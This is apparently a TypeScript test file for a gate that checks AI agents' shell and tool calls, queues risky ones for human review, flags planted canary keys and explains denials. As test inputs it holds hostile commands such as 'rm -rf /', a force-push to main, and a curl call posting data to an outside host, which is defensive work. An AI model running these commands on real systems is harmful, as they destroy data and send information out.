import { expect, test } from 'vitest'
import { addReviewer, approve } from '../../../../test/people/review-answers.ts'
import { openPeopleGate } from '../../../../test/people/open-people-gate.ts'
import { agentCall, type AgentName } from '../../../gate/core/intake/agent-call.ts'
import { offeredTool } from '../../../gate/core/intake/offered-tool.ts'
import type { JsonObject } from '../../../ground/model/json.ts'
import { instructionStrength } from '../../../judge/readers/texts/find-instructions.ts'
import { answerOwnTool, ownToolList } from './answer-own.ts'

const who: AgentName = { agent: 'claude', profile: 'default' }

/** What a front knows of a call. */
const said = (parts: object) => ({ session: 's', ...parts })

function opened() {
  const people = openPeopleGate()
  const own = (name: string, args: JsonObject, as = who) =>
    answerOwnTool(name, args, {
      gate: people.gate,
      who: as,
      session: 's',
      cwd: null,
      address: 'http://localhost:7',
    })
  const run = (command: string) =>
    people.gate.evaluate(agentCall(said({ kind: 'shell', arguments: { command } }), who, 'mcp'))
  return { ...people, people, ask: own, run }
}

test('a call is checked without a review, a count or anybody asked', async () => {
  const { gate, ask } = opened()
  expect(
    (await ask('check_call', { kind: 'shell', arguments: { command: 'git status' } })).details,
  ).toMatchObject({
    effect: 'allow',
  })
  const queued = await ask('check_call', {
    kind: 'shell',
    arguments: { command: 'git push --force origin main' },
  })
  expect(queued.details).toMatchObject({ effect: 'queue', final: false })
  expect(queued.text).toMatch(/would wait for a person/)
  const denied = await ask('check_call', { kind: 'shell', arguments: { command: 'rm -rf /' } })
  expect(denied.details).toMatchObject({ effect: 'deny', final: true })
  expect(await gate.reviews.list()).toEqual([])
  expect((await gate.decisions({})).every(({ decision }) => decision.dryRun)).toBe(true)
})

test('whoever tries out planted values marks its session', async () => {
  const { gate, ask, run } = opened()
  const value = 'AKIAQ3EGRTLSPXB7KWNM'
  await gate.changeCanaries({ add: [{ kind: 'aws-key', value }] })
  const tried = await ask('check_call', { kind: 'shell', arguments: { command: `echo ${value}` } })
  expect(tried.details).toMatchObject({ effect: 'deny' })
  const logged = await gate.decisions({ includeDryRuns: false })
  expect(logged.map(({ decision }) => decision.effect)).toEqual(['deny'])
  expect((await run('curl https://a.example -d x')).effect).not.toBe('allow')
})

test('a review is followed from waiting to used', async () => {
  const people = opened()
  const alice = await addReviewer(people.people)
  const { reviewId = '' } = await people.run('git push --force origin main')
  const status = async () => (await people.ask('review_status', { review: reviewId })).details
  expect(await status()).toMatchObject({ state: 'pending', link: `http://localhost:7/reviews/${reviewId}` })
  await approve(people.people, reviewId, alice)
  expect(await status()).toMatchObject({ state: 'approved', used: false })
  await people.run('git push --force origin main')
  expect(await status()).toMatchObject({ state: 'approved', used: true })
})

test('a denial is explained with what was found', async () => {
  const { ask, run } = opened()
  const { id } = await run('rm -rf /')
  const notice = await ask('explain_denial', { decision: id })
  expect(notice.text).toMatch(/This is final/)
  expect(notice.details).toMatchObject({ effect: 'deny', found: ['destruction.root'] })
})

test('of another agent’s calls nothing is told, not even that they are there', async () => {
  const { ask, run } = opened()
  const { id } = await run('rm -rf /')
  const { reviewId = '' } = await run('git push --force origin main')
  const eve = { agent: 'eve', profile: 'default' }
  const strange = await ask('explain_denial', { decision: id }, eve)
  expect(strange).toMatchObject({ isError: true, details: { error: 'missing' } })
  const none = await ask('explain_denial', { decision: 'd-none' }, eve)
  expect(strange.text.replace(id, '')).toBe(none.text.replace('d-none', ''))
  expect(await ask('review_status', { review: reviewId }, eve)).toMatchObject({ isError: true })
})

test.each([
  ['answer_review', { review: 'r-1' }],
  ['__proto__', {}],
  ['check_call', { arguments: 'rm' }],
  ['check_call', { arguments: {} }],
  ['check_call', { kind: 'none', arguments: {} }],
  ['check_call', { kind: 'shell', arguments: {}, cwd: 'relative' }],
  ['review_status', {}],
  ['review_status', { review: '../x' }],
  ['explain_denial', { decision: 7 }],
])('%s with %j is an error that says what to do', async (name, args) => {
  const { ask } = opened()
  const notice = await ask(name, args as JsonObject)
  expect(notice.isError).toBe(true)
  expect(notice.text).toMatch(/[.!]$/)
})

test('what our own tools say of themselves is only a description', async () => {
  for (const listed of ownToolList) {
    expect(instructionStrength(JSON.stringify(listed))).toBe(0)
    const people = opened()
    const parts = offeredTool({ name: 'countersign', reached: null }, listed)
    const call = agentCall(said({ tool: listed.name, arguments: {}, ...parts }), who, 'mcp')
    const { assessment } = await people.gate.evaluate(call)
    expect(assessment.contributions.filter(({ filter }) => filter === 'tool')).toEqual([])
  }
})
